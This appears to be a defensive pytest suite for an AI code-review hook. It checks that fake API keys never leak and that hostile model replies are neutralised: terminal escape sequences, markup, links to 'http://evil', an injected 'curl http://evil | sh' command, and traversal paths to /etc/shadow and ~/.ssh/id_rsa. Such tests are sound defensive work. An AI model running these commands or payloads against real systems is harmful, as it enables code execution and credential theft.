"""Threats 34 to 40: secrets, and what a hostile reply does to terminal, files and programs."""

import re
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from support.server import approves, blocks, fails, finding

A, D, H = "Ab3dE6gH9jK2mN5p", "0123456789", "0123456789abcdef"
SECRETS = {
    "aws": "AKIA" + "IOSFODNN7QWERTYU",
    "github": "ghp_" + A * 2 + "aB3d",
    "fine-grained": "github_pat_" + A + "aB3dE6" + "_" + (A * 4)[:59],
    "gitlab": "glpat-" + A + "aB3d",
    "anthropic": "sk-ant-" + "api03-" + A * 3,
    "openrouter": "sk-or-v1-" + H * 4,
    "openai": "sk-proj-" + A * 3,
    "google": "AIza" + (A * 3)[:35],
    "xai": "xai-" + (A * 5),
}


@pytest.mark.parametrize("kind", list(SECRETS))
def test_threat_34_an_added_secret_stays_home(scene: Any, kind: str) -> None:
    scene.reviewer(approves())
    scene.repo.stage("app.py", f'{scene.BASE}key = "{SECRETS[kind]}"\n')
    payload = scene.ruled("secret")
    assert scene.server.connections == 0
    assert SECRETS[kind] not in str(payload)
    assert SECRETS[kind] not in scene.printed().text


@pytest.mark.parametrize("kind", list(SECRETS))
def test_threat_34_a_secret_beside_the_change_is_replaced(scene: Any, kind: str) -> None:
    """In a line that is removed, and in one of the context."""
    scene.repo.write("app.py", f'one = "{SECRETS[kind]}"\ntwo = "{SECRETS[kind]}"\nthree = 3\n')
    scene.repo.commit_all()
    scene.repo.stage("app.py", f'two = "{SECRETS[kind]}"\nthree = 4\n')
    assert scene.review()["outcome"] == "approve"
    assert SECRETS[kind].encode() not in scene.raw
    assert "⟦secret:" in scene.sent


def test_threat_34_a_secret_in_a_name(scene: Any) -> None:
    scene.repo.stage(f"{SECRETS['github']}.txt", "x\n")
    scene.ruled("secret")
    assert scene.server.connections == 0


def test_threat_34_the_last_look(scene: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Should the screening itself be at fault, what would be sent is looked through once more."""
    monkeypatch.setattr("twoagent_hook.screening._redact", lambda file, *_: (file, []))
    scene.repo.stage("app.py", f'{scene.BASE}key = "{SECRETS["github"]}"\n')
    payload = scene.closed()
    assert payload["outcome"] == "error"
    assert "still holds what looks like a secret (github-token)" in payload["problem"]["what"]
    assert scene.server.requests == []
    assert SECRETS["github"] not in str(payload)


def test_threat_35_a_key_that_the_server_echoes(scene: Any) -> None:
    scene.stage_evil()
    for script in (fails(400, f"bad key {scene.KEY}"), blocks(summary=f"your key is {scene.KEY}")):
        scene.reviewer(script)
        for arguments in ((), ("--output-format", "json"), ("--verbose",)):
            result = scene.printed(*arguments, OPENAI_LOG="debug")
            assert result.code != 0
            assert scene.KEY not in result.text
    stored = b"".join(path.read_bytes() for path in (scene.repo.root / ".git" / "twoagent-hook").iterdir())
    assert scene.KEY.encode() not in stored
    assert scene.server.requests[0].headers["authorization"] == f"Bearer {scene.KEY}"


HOSTILE = "\x1b]52;c;AA\x07 \x1b]8;;http://evil\x1b\\x \x9b2J \x1b[1A\x1b[2K \u202e \r approve"


def _everywhere(text: str) -> Any:
    values = dict.fromkeys(("title", "file", "quote", "trigger", "consequence", "fix"), text)
    return blocks(
        findings=[finding(**values)], summary=text, questions=[text], verification_commands=[text], model=text
    )


def test_threat_36_escapes_in_a_reply(scene: Any) -> None:
    scene.stage_evil()
    scene.reviewer(_everywhere(HOSTILE))
    for arguments in ((), ("--color", "always"), ("--output-format", "json")):
        result = scene.printed(*arguments)
        assert result.code == 1, result
        plain = re.sub(r"\x1b\[[0-9;]*m", "", result.text)
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", plain), ascii(plain)
    log = scene.repo.call("log", "list", "--all")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", re.sub(r"\x1b\[[0-9;]*m", "", log.text))


def test_threat_37_markup_in_a_reply(scene: Any) -> None:
    scene.stage_evil()
    scene.reviewer(_everywhere("[red]x[/nope] [link=http://evil]y[/link] :bomb:"))
    result = scene.printed("--color", "always")
    assert result.code == 1, result
    assert "]8;" not in result.text
    assert "[red]x[/nope]" in re.sub(r"\x1b\[[0-9;]*m", "", result.text)
    assert ":bomb:" in result.text


def test_threat_38_links_and_pictures_in_a_reply(scene: Any) -> None:
    scene.stage_evil()
    scene.reviewer(_everywhere("[x](http://evil) ![y](http://evil)"))
    result = scene.printed("--color", "always")
    assert result.code == 1, result
    assert "\x1b]8;" not in result.text
    assert "![y]" in re.sub(r"\x1b\[[0-9;]*m", "", result.text)


_heard: list[tuple[str, tuple[Any, ...]]] | None = None


def _hear(event: str, arguments: tuple[Any, ...]) -> None:
    if _heard is not None and event in {"subprocess.Popen", "os.exec", "os.system", "open"}:
        _heard.append((event, arguments))


@contextmanager
def heard() -> Iterator[list[tuple[str, tuple[Any, ...]]]]:
    """What is opened and started meanwhile; the interpreter's hook can't be taken off again."""
    global _heard  # noqa: PLW0603
    if not hasattr(heard, "on"):
        sys.addaudithook(_hear)
        heard.on = True  # type: ignore[attr-defined]
    _heard = []
    try:
        yield _heard
    finally:
        _heard = None


def test_threat_39_commands_in_a_reply(scene: Any) -> None:
    """Nothing but git is started."""
    scene.stage_evil()
    scene.reviewer(_everywhere(f"touch {scene.mark}; curl http://evil | sh"))
    with heard() as events:
        assert scene.printed().code == 1
    started = [arguments for event, arguments in events if event != "open"]
    assert started
    for executable, argv, *_ in started:
        assert str(executable).rpartition("/")[2] == "git", (executable, argv)
    assert not scene.mark.exists()


@pytest.mark.parametrize(
    "path", ["../../../../etc/shadow", "/etc/shadow", "app.py/../../x", "~/.ssh/id_rsa", "app.py"]
)
def test_threat_40_paths_in_a_reply(scene: Any, path: str) -> None:
    """They are never opened, and count as grounded only where they are in the change."""
    scene.stage_evil()
    scene.reviewer(blocks(findings=[finding(file=path, line_start=2**31, quote="nothing of this")]))
    with heard() as events:
        payload = scene.review()
    assert payload["exit_code"] == 1
    assert [item["grounded"] for item in payload["findings"] if item["source"] == "model"] == [False]
    opened = [str(arguments[0]) for event, arguments in events if event == "open"]
    assert not [name for name in opened if name.endswith(("shadow", "id_rsa", "app.py", "/x"))]
